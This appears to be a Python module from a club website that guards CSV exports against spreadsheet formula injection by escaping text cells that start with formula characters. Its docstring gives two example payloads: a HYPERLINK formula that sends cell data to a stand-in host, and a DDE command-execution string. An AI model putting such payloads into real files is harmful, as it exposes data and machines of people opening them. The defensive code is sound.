"""Cells of the CSV files the site writes, safe to open in a spreadsheet.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(and Excel also after a leading tab or carriage return), so a player named
``=HYPERLINK("http://evil.example/?x="&A1;"klick")`` would become a live link, or
``+cmd|' /C calc'!A0`` a command, on the computer of whoever opens the export. Every CSV
the site writes (``clubs.exports.csv_text``: results, placings, season standings, the
rating list and the archive's copies of them) passes each text cell through
``spreadsheet_text``, which puts an apostrophe before such a first character, as OWASP
advises ("CSV Injection"): the spreadsheet then shows the text as typed, apostrophe
hidden, and evaluates nothing.

Decisions:

- **Numbers we write as numbers are data, not formulas.** A rating of -3.5, a points
  difference of -2 or a negative total come from our own ``int``/``Decimal`` fields, never
  from what someone typed, and a cell holding only a number cannot call anything; an
  apostrophe would turn them into text a spreadsheet no longer sums or sorts. So
  ``spreadsheet_text`` is applied to text only (``str`` values: names, clubs, states),
  and numeric values are written as they are. A *text* value that merely looks like a
  number (a player named ``-1``) is text and is escaped like any other.
- **Every such text is escaped, not only the ones that look dangerous.** Guessing which
  formulas are harmful is how filters get bypassed; a name beginning with ``-`` or
  ``+`` is rare and the apostrophe is invisible in the spreadsheet.
- **Imports keep the text as typed.** The players and season imports store a name
  beginning with ``=`` exactly as written; only the CSV written for a spreadsheet is
  escaped. JSON exports and the pages show names unchanged (they are not formulas there).
"""

from __future__ import annotations

# What makes a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet evaluates: a leading ``'`` when it begins
    with one of ``FORMULA_STARTS``, else unchanged."""
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text
